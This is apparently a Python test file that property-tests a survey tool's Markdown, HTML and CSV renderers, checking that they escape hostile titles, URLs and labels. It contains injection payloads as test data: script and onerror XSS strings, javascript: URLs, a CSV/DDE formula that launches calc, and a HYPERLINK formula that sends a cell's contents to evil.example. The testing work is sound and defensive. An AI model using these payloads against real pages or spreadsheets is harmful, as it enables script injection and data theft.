"""Every output escapes for its format: Markdown, HTML, CSV; only http(s) links.

The property tests push arbitrary Unicode titles, urls and labels through every
renderer and parse the output with real parsers (markdown-it-py for Markdown,
html5lib for HTML, the csv module for CSV): no output may hold a link, tag or
formula that the record did not contain.
"""

from __future__ import annotations

import copy
import csv
import functools
import io
from pathlib import Path

import html5lib
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from profiles import examples
from markdown_it import MarkdownIt
from mdit_py_plugins.dollarmath import dollarmath_plugin

from masrl.bib.urls import url_problem
from masrl.corpus.load import parse_tree, read_tree
from masrl.render.escape import (
    CSV_FORMULA_START,
    csv_cell,
    md_code,
    md_link,
    md_text,
    md_url,
)
from masrl.render.readme import END, START

#: The frozen test survey (tests/data/survey).
SURVEY = Path(__file__).resolve().parent / "data/survey"
MD = MarkdownIt("commonmark").enable(["table", "strikethrough"]).use(dollarmath_plugin)



# ---------------------------------------------------------------- parsers
def md_structure(text: str) -> list[tuple[str, str]]:
    """Links, images, raw HTML and math of a Markdown document, in order."""
    return list(_md_structure(text))


@functools.lru_cache(maxsize=2048)  # most files of a hostile render are those of the benign one
def _md_structure(text: str) -> tuple[tuple[str, str], ...]:
    found = []

    def walk(tokens):
        for tok in tokens:
            if tok.type == "link_open":
                found.append(("link", tok.attrGet("href")))
            elif tok.type == "image":
                found.append(("image", tok.attrGet("src")))
            elif tok.type in ("html_inline", "html_block"):
                found.append(("html", tok.content.strip()))
            elif tok.type.startswith("math"):
                found.append(("math", tok.content))
            if tok.children:
                walk(tok.children)

    walk(MD.parse(text))
    return tuple(found)


def md_plain(text: str) -> str:
    """The text a reader sees (inline text and code of every block), spaces collapsed."""
    out = []

    def walk(tokens):
        for tok in tokens:
            if tok.type in ("text", "code_inline"):
                out.append(tok.content)
            elif tok.type in ("softbreak", "hardbreak"):
                out.append(" ")
            if tok.children:
                walk(tok.children)
            elif tok.type == "inline":
                out.append(tok.content)
            if tok.type.endswith("_close") or tok.type == "inline":
                out.append(" ")

    walk(MD.parse(text))
    return " ".join("".join(out).split())


def shown(text: str) -> str:
    """What a Markdown reader shows for ``text``: whitespace collapsed, and each character the text policy refuses
    (a control, bidi or zero-width character, NUL) as its escape (masrl.core.text.printable), as masrl writes it."""
    from masrl.core.text import printable

    return printable(" ".join(text.split()))


#: Attributes whose value is structure (where a link or resource points, what runs); the values
#: of the others (title, aria-label, data-*) are text and may hold anything, escaped.
ACTIVE_ATTRIBUTES = ("href", "src", "action", "formaction")


def html_structure(html: str) -> list[tuple[str, tuple]]:
    """Elements with their attribute names, the values of the active ones, and no event handler."""
    return list(_html_structure(html))


@functools.lru_cache(maxsize=2048)
def _hrefs(html: str) -> list:
    """The ``href`` of every ``<a>`` of an HTML page, in order (parsed once per distinct page)."""
    return [el.get("href") for el in html5lib.parse(html, namespaceHTMLElements=False).iter("a")]


@functools.lru_cache(maxsize=2048)
def _html_structure(html: str) -> tuple[tuple[str, tuple], ...]:
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    out = []
    for el in tree.iter():
        if isinstance(el.tag, str):
            out.append((el.tag, tuple(sorted((k, v if k in ACTIVE_ATTRIBUTES or k.startswith("on") else "")
                                             for k, v in el.attrib.items()))))
    return tuple(out)


# ---------------------------------------------------------------- strategies
HOSTILE = ["[x](javascript:alert(1))", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", '=HYPERLINK("http://e.org")',
           "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "$x$", "$$y$$", "`", "``", "**", "__", "~~", "<", ">", "&amp;", "&#60;",
           "|", "\\", "# ", "- ", "1. ", "2) ", "---", "===", "http://evil.org", "www.evil.org", "![i](http://e.org/x.png)",
           "<!--", "-->", "]]>", "@bob", "#12", "[^1]", "[a]: http://e.org", "<http://e.org>", "\t", "\r\n", "\u2028",
           "'", '"', "{", "}", "%", "_x_", "*x*", "\\[", "\\", "\\\\", ":)", "\x00", "\x1b[31m"]
TEXT = st.one_of(
    st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=40),
    st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(min_size=1, max_size=4)), min_size=1, max_size=6).map("".join),
).filter(lambda s: s.strip())
URL = st.one_of(
    st.sampled_from(["https://x.org/a)<img/src=x/onerror=alert(1)>", "javascript:alert(1)", "https://x.org/a b",
                     'https://x.org/"onmouseover="x', "https://x.org/(a)(b", "https://x.org/a(b)c", "HTTPS://X.ORG/p?q=1&r=2",
                     "http://x.org/[a]", "https://[::1]:8080/x", "https://x.org/%zz", "https://x.org/a|b", "data:text/html,x",
                     "https://user@x.org/", "https://x.org/é", "https://x.org/`x`", "https://arxiv.org/abs/2605.02801"]),
    st.builds(lambda host, path: f"https://{host}.org/{path}",
              st.from_regex(r"[a-z][a-z0-9-]{0,10}[a-z0-9]", fullmatch=True),
              st.text(st.sampled_from("abc019-._~!$&'()*+,;=:@/?#%[]<>\"` |\\{}^é"), max_size=20)),
    st.text(max_size=30),
)


# ---------------------------------------------------------------- units
@pytest.mark.parametrize("text, escaped", [
    ("[x](javascript:alert(1))", "\\[x\\](javascript:alert(1))"),
    ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)>"),
    ("a_b _c_ *d* `e` | ~f~ $g$", "a_b \\_c\\_ \\*d\\* \\`e\\` \\| \\~f\\~ \\$g\\$"),
    ("D&B &amp; #12 @bob", "D&B \\&amp; \\#12 \\@bob"),
    ("# heading", "\\# heading"),
    ("> quote", "\\> quote"),
    ("- item", "\\- item"),
    ("1. item", "1\\. item"),
    ("---", "\\---"),
    ("-based +1 = 2", "-based +1 = 2"),
    ("two\nlines\t and  spaces ", "two lines and spaces"),
])
def test_md_text(text, escaped):
    assert md_text(text) == escaped
    assert md_plain(md_text(text)) == " ".join(text.split())
    assert md_structure(md_text(text)) == []


def test_md_code_and_link():
    assert md_code("tool_use") == "`tool_use`"
    assert md_code("a`b") == "``a`b``"
    assert md_code("`x") == "`` `x ``"
    assert md_code("t\u202e\x1b[2J") == "`t\\u202e\\x1b[2J`"  # a trace id in `trace metrics`: shown, never obeyed
    assert md_link("paper [1]", "https://x.org/a(b)") == "[paper \\[1\\]](https://x.org/a%28b%29)"
    assert md_link("paper", "javascript:alert(1)") == "paper"
    assert md_url("https://x.org/a)<img/src=x/onerror=alert(1)>") is None


@pytest.mark.parametrize("url, problem", [
    ("https://x.org/a)<img/src=x/onerror=alert(1)>",
     "contains '<' (U+003C), a character that ends a Markdown link or an HTML attribute; percent-encode it (%3C)"),
    ("https://x.org/a b", "contains ' ' (U+0020), a space or control character; percent-encode it (%20)"),
    ("https://x.org/é", "contains 'é' (U+00E9), a non-ASCII character; percent-encode it (%C3%A9)"),
    ("https://x.org/a)", "has unbalanced parentheses; percent-encode them (%28, %29)"),
    ("https://x.org/100%", "has a '%' that does not start a %XX escape; write a literal '%' as %25"),
    ("javascript:alert(1)", "is not an http(s) URL (it must start with http:// or https://)"),
    ("https://user@x.org/", "names a user before the host ('user@host'); remove it"),
    ("https://x_y.org/", "'x_y.org' is not a host name (letters, digits, '-' and '.')"),
    ("https://x.org:99999/", "is not a well-formed URL (Port out of range 0-65535)"),
    ("https://", "has no host name"),
    ("https://x.org/a(b)c?q=1&r=%20#f", None),
    ("https://[::1]:8080/x", None),
    ("HTTP://127.0.0.1/", None),
])
def test_url_problem(url, problem):
    assert url_problem(url) == problem


def test_validate_refuses_a_url_that_breaks_out(survey, cli):
    path = survey / "corpus/papers/c3.yaml"
    path.write_text(path.read_text().replace("url: https://arxiv.org/abs/2603.06859",
                                             "url: https://x.org/a)<img/src=x/onerror=alert(1)>"))
    run = cli("validate", "--root", survey)
    assert run.code == 1
    line = next(i for i, t in enumerate(path.read_text().splitlines(), 1) if t.startswith("url:"))
    assert (f"corpus/papers/c3.yaml:{line}: url: 'https://x.org/a)<img/src=x/onerror=alert(1)>' contains '<' (U+003C), "
            "a character that ends a Markdown link or an HTML attribute; percent-encode it (%3C)") in run.err.splitlines()


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("'=x", "'=x"), (-3, -3), (2.5, 2.5), ("", ""),
])
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize("title", ["'-greedy orchestrator for agent teams", "'", "''x", "'=x", "'Tis a team", "-x", "=x", "x"])
def test_a_rounds_sheet_gives_back_every_cell_as_written(title):
    """A round's queue is read back by masrl: the guard it writes before a formula character, and before a
    leading apostrophe, is the only one taken off (a title that begins with ' keeps it)."""
    from masrl.corpus.rounds import csv_bytes, read_csv

    _header, rows, problems = read_csv(csv_bytes(("identifier", "title"), [{"identifier": "arxiv:2601.00001", "title": title}]),
                                       "queue.csv")
    assert (problems, [row.cells["title"] for row in rows]) == ([], [title])


@given(st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=12))
@example(" '-greedy")  # blanks, then the apostrophe the guard is for
@example(" ")
@settings(max_examples=examples(40))
def test_a_rounds_sheet_gives_back_any_text(text):
    from masrl.corpus.rounds import csv_bytes, read_csv

    _header, rows, problems = read_csv(csv_bytes(("identifier", "title"), [{"identifier": "x", "title": text}]), "queue.csv")
    assert not problems and rows[0].cells["title"] == text.strip()  # a sheet's cells are read without blanks around


def test_csv_tables_neutralise_formulas():
    import pandas as pd

    from masrl.render.csvout import table_csv

    frame = pd.DataFrame({"label": ["=HYPERLINK(\"http://e\")", "plain"], "count": [-1, 2]},
                         index=pd.Index(["+a", "b"], name="@field"))
    assert table_csv(frame).decode() == "'@field,label,count\n'+a,\"'=HYPERLINK(\"\"http://e\"\")\",-1\nb,plain,2\n"


# ---------------------------------------------------------------- the renderers, property-tested
@pytest.fixture(scope="module")
def small_corpus():
    """The test survey's taxonomy and README with three retained and one excluded record, no claims or audits."""
    files = read_tree(SURVEY)
    keep = {k: v for k, v in files.items() if not k.startswith(("corpus/papers/", "exclusions/", "corpus/audits/"))}
    for key in ("c3", "magrpo", "agentdojo2024"):
        keep[f"corpus/papers/{key}.yaml"] = files[f"corpus/papers/{key}.yaml"]
    keep["exclusions/E001.yaml"] = files["exclusions/E001.yaml"]
    keep["corpus/claims.yaml"] = b"claims: []\n"
    return parse_tree(keep)


def hostile_corpus(corpus, title, url, label):
    c = copy.deepcopy(corpus)
    rec = c.retained["corpus/papers/c3.yaml"]
    rec.update(title=title, url=url, venue=title, one_liner=title, authors=[f"{label}, {title}"])
    c.excluded["exclusions/E001.yaml"]["screening_label"] = title
    fields = c.taxonomy["fields"]
    fields["category"]["values"][rec["category"]]["label"] = label
    fields["reward_type"]["values"][rec["reward_type"]]["label"] = label
    next(iter(c.taxonomy["tables"][0]["families"].values()))["name"] = label
    c.claims = [{"id": "c1", "statement": title, "evidence_boundary": label, "source": title, "status": "current",
                 "checks": [{"label": label, "where": {"category": rec["category"]}, "min_count": 0}]}]
    return c


def render_all(corpus):
    """``(build, {path: bytes})``: every text output of the corpus (pool and releases, site included)."""
    from masrl.build.outputs import render_text
    from masrl.build.pipeline import build

    result = build(corpus, {})
    return result, render_text(result, corpus.readme)


def is_number(value: str) -> bool:
    """Whether a CSV cell is a plain decimal number, as the renderers write counts and changes."""
    try:
        float(value)
    except ValueError:
        return False
    return value.strip() == value and value.lstrip("+-").replace(".", "", 1).isdigit()


def assert_same_structure(hostile: dict, benign: dict, url: str):
    """Hostile and benign renders (same url) hold the same links, tags and formulas."""
    assert hostile.keys() == benign.keys()
    for rel in hostile:
        h, b = hostile[rel].decode("utf-8"), benign[rel].decode("utf-8")
        same = hostile[rel] == benign[rel]  # the same bytes have the same structure (a release's tree: no hostile text)
        if rel.endswith(".md") and not same:
            assert md_structure(h) == md_structure(b), rel
        elif rel.endswith(".html") and not same:
            assert html_structure(h) == html_structure(b), rel
        elif rel.endswith(".csv"):
            for row in csv.reader(io.StringIO(h)):
                for value in row:  # a signed number (a change column's -40) is a number, not a formula
                    assert not value.startswith(CSV_FORMULA_START) or is_number(value), (rel, value)


@settings(max_examples=examples(5))
@given(title=TEXT, url=URL, label=TEXT)
def test_every_renderer_escapes_hostile_records(small_corpus, title, url, label):
    from masrl.analyses.compare import compare
    from masrl.commands.diff import render_markdown

    hostile, benign = hostile_corpus(small_corpus, title, url, label), hostile_corpus(small_corpus, "Plain", url, "Plain")
    h_results, h_out = render_all(hostile)
    b_results, b_out = render_all(benign)
    assert_same_structure(h_out, b_out, url)
    # the one link of the record is the record's url, or there is none
    readme = h_out["README.md"].decode()
    readme = readme[readme.index(START):readme.index(END)]  # the generated paper list
    links = [v for k, v in md_structure(readme) if k == "link"]
    c3_links = [v for v in links if v not in {md_url(r["url"].split(" ; ")[0]) for r in h_results.pool.retained_records if r["key"] != "c3"}]
    first = url.split(" ; ")[0]
    assert c3_links == ([md_url(first)] if url_problem(first) is None else [])
    assert shown(title) in md_plain(readme)
    for rel in (r for r in h_out if r.endswith(".html")):
        hrefs = _hrefs(h_out[rel].decode())
        assert all(url_problem(h) is None for h in hrefs if h and h.split(":", 1)[0].lower() not in ("", "#") and ":" in h), rel
    diff = render_markdown(compare(b_results, h_results), "HEAD")
    assert md_structure(diff) == md_structure(render_markdown(compare(b_results, b_results), "HEAD"))


@settings(max_examples=examples(200))
@given(title=TEXT, url=URL, label=TEXT)
def test_readme_list_escapes_every_field(title, url, label):
    from masrl.corpus.taxonomy import Taxonomy
    from masrl.render.readme import papers_markdown

    tax = Taxonomy({"fields": {"category": {"applies_to": "retained", "values": {"survey": {"label": label}}}}})
    record = {"key": "k", "title": title, "authors": [f"{label}, {title}", "others"], "year": 2026, "venue": title,
              "url": url, "one_liner": title, "category": "survey", "reward_type": label, "credit_granularity": "NA",
              "orchestration_form": "NA", "is_rl": "no", "subdecisions": [label]}
    headline = {"retained": 1, "excluded": 0, "audited": 1}
    md = papers_markdown([record], tax, headline)
    first = url.split(" ; ")[0]  # a record's url may list several; the list links the first
    link = [("link", md_url(first))] if url_problem(first) is None else []
    assert md_structure(md) == link + [("html", "<br>"), ("html", "<br>")]
    plain = md_plain(md)
    assert shown(title) in plain and shown(label) in plain


@settings(max_examples=examples(200))
@given(cells=st.lists(TEXT, min_size=1, max_size=4), counts=st.lists(st.integers(-5, 5), min_size=1, max_size=4))
def test_tables_escape_every_cell(cells, counts):
    import pandas as pd

    from masrl.render.csvout import table_csv
    from masrl.render.markdown import table_md

    n = min(len(cells), len(counts))
    frame = pd.DataFrame({cells[0]: cells[:n], "count": counts[:n]}, index=pd.Index(cells[:n], name=cells[-1]))
    md = table_md(frame)
    assert md_structure(md) == []
    tokens = MD.parse(md)
    assert [t.type for t in tokens].count("tr_open") == n + 1  # no cell broke the table
    rows = list(csv.reader(io.StringIO(table_csv(frame).decode())))
    assert len(rows) == n + 1
    for row in rows:
        for value in row[:2]:  # the text columns (the counts are numbers, written as numbers)
            assert not value.startswith(CSV_FORMULA_START)
    assert rows[0][2] == "count" and [int(r[2]) for r in rows[1:]] == counts[:n]
    assert [r[0] for r in rows[1:]] == [csv_cell(c.replace("\r\n", "\n").replace("\r", "\n")) for c in cells[:n]]


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "see https://evil.example/x now", "HTTP://EVIL.EXAMPLE",
    "ftp://files.example/x", "visit www.evil.example today", "(www.evil.example)", "a|https://x.example|b",
])
def test_bare_urls_in_record_text_stay_text_on_github(text):
    """GitHub renders Markdown with cmark-gfm, which links bare URLs and www. hosts (CommonMark
    parsers do not): text from a record must not become a link there either."""
    import cmarkgfm

    from masrl.render.escape import md_text

    for where in (md_text(text), f"| a | {md_text(text)} |\n|---|---|\n| {md_text(text)} | x |"):
        html = cmarkgfm.github_flavored_markdown_to_html(where)
        assert "<a " not in html, (where, html)
    body = cmarkgfm.github_flavored_markdown_to_html(md_text(text))
    shown_text = "".join(html5lib.parse(body, namespaceHTMLElements=False).find("body").itertext())
    assert shown_text.strip() == text
